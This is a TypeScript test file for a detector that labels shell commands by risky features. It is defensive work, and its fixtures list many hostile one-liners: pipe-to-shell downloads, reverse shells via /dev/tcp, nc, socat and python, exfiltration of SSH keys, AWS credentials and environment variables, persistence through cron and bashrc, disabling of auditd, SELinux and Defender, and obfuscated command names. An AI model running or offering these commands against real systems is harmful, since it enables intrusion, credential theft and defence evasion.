import { describe } from 'node:test';
import { check } from './expect.ts';

const base64 = (text: string): string => Buffer.from(text).toString('base64');

describe('what comes from the network is run', () => {
  const all = 'download download-execute pipe-to-shell';
  check('shell', 'curl -s http://a.invalid/x | bash', {
    features: all,
    programs: 'curl bash',
    urls: ['http://a.invalid/x'],
  });
  check('shell', 'wget -qO- http://a.invalid/x | sudo sh -s -- -y', { features: `${all} privilege` });
  check('shell', 'bash -c "$(curl -fsSL https://a.invalid/i.sh)"', { features: all });
  check('shell', 'bash <(curl -s https://a.invalid/i.sh)', { features: all });
  check('shell', 'eval "$(wget -qO- http://a.invalid)"', { features: all });
  check('shell', '. <(curl -s http://a.invalid/p)', { features: all });
  check('shell', 'curl http://a.invalid/p | perl -', { features: all });
  check('shell', 'a=cu;b=rl;$a$b http://a.invalid | sh', { features: all, programs: 'curl sh' });
  const file = 'download download-execute';
  check('shell', 'wget -q http://a.invalid/f -O /tmp/f && chmod +x /tmp/f && /tmp/f', { features: file });
  check('shell', 'cd /tmp; curl -LO http://a.invalid/run; chmod 777 run; nohup ./run &', { features: file });
  check('shell', 'curl http://a.invalid/x > /tmp/y; sh /tmp/y', { features: file });
  check('shell', 'wget http://a.invalid/x.py; python3 x.py', { features: `${file} runs-python` });
  check('shell', 'wget http://a.invalid/a.tgz && tar xzf a.tgz && ./miner', { features: file });
  check('shell', 'curl -o a http://a.invalid/x; mv a b; ./b', { features: file });
});

describe('honest downloads', () => {
  check('shell', 'wget http://a.invalid/a.tar.gz && tar xf a.tar.gz && cd a && ./configure && make', {
    features: 'download',
  });
  check('shell', 'curl -LO https://a.invalid/tool-$(uname -s)-$(uname -m).tgz && tar xzf tool.tgz', {
    features: 'download',
  });
  check('shell', 'curl -s http://a.invalid/list.json | jq .', { features: 'download' });
  check('shell', 'curl --version; wget --help', { features: '' });
  check('shell', 'curl -s http://localhost:8080/health', { features: '' });
  check('shell', 'git clone https://a.invalid/r && cd r && make', { features: '' });
  check('shell', 'echo "curl http://a.invalid | sh"', { features: '' });
  check('shell', '# curl http://a.invalid | sh', { features: '', programs: '' });
});

describe('decoders', () => {
  check('shell', `echo ${base64('print(1)')} | base64 -d | python3`, {
    features: 'decode encoded-command pipe-to-shell runs-python',
    inner: [['python < echo < base64 < python3', 'print(1)']],
  });
  check('shell', `base64 -d <<< ${base64('whoami')} | sh`, {
    features: 'decode encoded-command pipe-to-shell host-identity',
    inner: [['shell < base64 < sh', 'whoami']],
  });
  check(
    'shell',
    "echo 'jubnzv' | tr A-Za-z N-ZA-Mn-za-m | bash",
    {
      features: 'decode encoded-command pipe-to-shell host-identity',
      inner: [['shell < echo < tr < bash', 'whoami']],
    },
    'rot13',
  );
  check('shell', "printf '\\x77\\x68\\x6f\\x61\\x6d\\x69' | sh", {
    features: 'host-identity',
    inner: [['shell < printf < sh', 'whoami']],
  });
  check('shell', 'base64 -d file.b64 > out.bin', { features: 'decode' });
  check('shell', 'base64 file.bin', { features: '' });
});

describe('remote shells', () => {
  check('shell', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1', { features: 'reverse-shell' });
  check('shell', 'bash -c "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"', { features: 'reverse-shell' });
  check('shell', 'exec 5<>/dev/tcp/192.0.2.1/44; cat <&5 | while read line; do $line 2>&5 >&5; done', {
    features: 'reverse-shell',
  });
  check('shell', 'nc -e /bin/sh 192.0.2.1 4444', { features: 'reverse-shell' });
  check('shell', 'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.1 42 >/tmp/f', {
    features: 'file-delete reverse-shell send-data',
  });
  check('shell', "socat exec:'bash -li',pty tcp:192.0.2.1:99", { features: 'reverse-shell' });
  check('shell', 'nc 192.0.2.1 1 | sh | nc 192.0.2.1 2', { features: 'reverse-shell send-data' });
  check(
    'shell',
    `python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")'`,
    {
      features: 'reverse-shell runs-python',
    },
  );
  check('shell', `perl -e 'use Socket;exec("/bin/sh -i")'`, { features: 'reverse-shell' });
  check('shell', '(echo > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1', { features: '' }, 'waiting for a port');
  check('shell', 'nc -z localhost 80', { features: '' });
  check('shell', `python -c 'import socket; print(socket.gethostname())'`, { features: 'runs-python' });
});

describe('data goes out', () => {
  check('shell', 'curl -d @/etc/hosts https://a.invalid', { features: 'send-data' });
  check('shell', 'curl -F file=@/root/.ssh/id_rsa http://a.invalid', {
    features: 'credential-access send-data',
  });
  check('shell', 'env | curl -X POST -d @- http://a.invalid', { features: 'environment-dump send-data' });
  check('shell', 'nslookup $(whoami).x.invalid', { features: 'host-identity send-data' });
  check('shell', 'ping -c1 $USER.x.invalid', { features: 'host-identity send-data' });
  check('shell', 'curl -s "http://a.invalid/?u=$(hostname)"', {
    features: 'download host-identity send-data',
  });
  check('shell', 'curl http://a.invalid/$(cat /etc/passwd | base64 -w0)', {
    features: 'download host-identity send-data',
  });
  check('shell', 'cat ~/.aws/credentials | nc 192.0.2.1 99', { features: 'credential-access send-data' });
  check('shell', 'wget --post-file=/tmp/a http://a.invalid', { features: 'send-data download' });
  check('shell', 'scp /tmp/a u@a.invalid:/tmp', { features: 'send-data' });
  check('shell', 'scp u@a.invalid:/tmp/a .', { features: '' });
  check('shell', 'curl -s --unix-socket /run/docker.sock http://docker/containers/$HOSTNAME/json', {
    features: '',
  });
  check('shell', 'curl -X POST -d x http://127.0.0.1:9000/rpc', { features: '' });
});

describe('the machine is changed', () => {
  check('shell', '(crontab -l; echo "* * * * * /tmp/x") | crontab -', { features: 'persistence' });
  check('shell', 'crontab -l', { features: '' });
  check('shell', 'echo "/tmp/x &" >> ~/.bashrc', { features: 'persistence' });
  check('shell', 'cp x.desktop ~/.config/autostart/', { features: 'persistence' });
  check('shell', 'systemctl enable nginx', { features: '' });
  check('shell', 'cat > /etc/systemd/system/x.service <<EOF\n[Unit]\nEOF\nsystemctl enable x', {
    features: 'persistence',
  });
  check('shell', 'useradd -m x && echo x:y | chpasswd', { features: 'account-change' });
  check('shell', 'dscl . -create /Users/x', { features: 'account-change' });
  check('shell', 'dscl . -list /Users', { features: '' });
  check('shell', 'sysadminctl -addUser x -password y', { features: 'account-change' });
  check('shell', 'sysadminctl -secureTokenStatus x', { features: '' });
  check('shell', 'chmod u+s /tmp/sh; chmod 4755 /tmp/sh', { features: 'privilege' });
  check('shell', 'chmod 755 a; chmod +x b; chmod 0644 c', { features: '' });
  check('shell', 'rm -- "$0"', { features: 'file-delete self-delete' });
  check('shell', 'iptables -F; ufw disable', { features: 'firewall-tamper' });
  check('shell', 'setenforce 0; systemctl stop auditd', { features: 'defender-tamper' });
  check('shell', 'xattr -d com.apple.quarantine a.app', { features: 'policy-bypass' });
  check('shell', './xmrig -o stratum+tcp://p.invalid:1 -u w', { features: 'miner' });
  check('shell', 'shutdown -h now', { features: 'shutdown' });
  check('shell', 'pip install requests', { features: 'package-install' });
  check('shell', 'pip --version; npm run build; apt list', { features: '' });
});

describe('tricks', () => {
  check('shell', 'c""url http://a.invalid/x', { features: 'download', programs: 'curl' });
  check('shell', 'w\\g\\e\\t http://a.invalid/x', { features: 'download', programs: 'wget' });
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell variable
  check('shell', 'curl${IFS}http://a.invalid/x', { features: 'download', programs: 'curl' });
  check('shell', "$'\\x63url' http://a.invalid/x; {wget,http://a.invalid/y}", {
    features: 'download obfuscated',
    programs: 'curl wget',
  });
});

describe('programs inside', () => {
  check('shell', 'python - <<EOF\nprint(1)\nEOF', {
    features: 'runs-python',
    inner: [['python < python here-document', 'print(1)\n']],
  });
  check('shell', "cat > /tmp/x.py <<'EOF'\nprint(1)\nEOF\npython /tmp/x.py", {
    features: 'runs-python',
    inner: [['python < written file', 'print(1)\n']],
  });
  check('shell', 'bash -c "bash -c whoami"', {
    features: 'host-identity',
    inner: [['shell < bash -c', 'bash -c whoami']],
  });
  check('shell', 'node -e \'require("child_process").exec("whoami")\'', {
    features: 'host-identity',
    inner: [['javascript < node -e', 'require("child_process").exec("whoami")']],
  });
});

describe('a line for cmd.exe is read as such', () => {
  check('shell', 'taskkill /f /im MsMpEng.exe', { features: 'defender-tamper kill-process' });
  check('shell', 'C:\\Windows\\System32\\wbem\\WMIC.exe csproduct get uuid', {
    features: 'host-identity',
    programs: 'wmic',
  });
  check('shell', 'curl -o %TEMP%/a.pyw http://a.invalid/a && py %TEMP%/a.pyw', {
    features: 'download download-execute runs-python',
  });
});
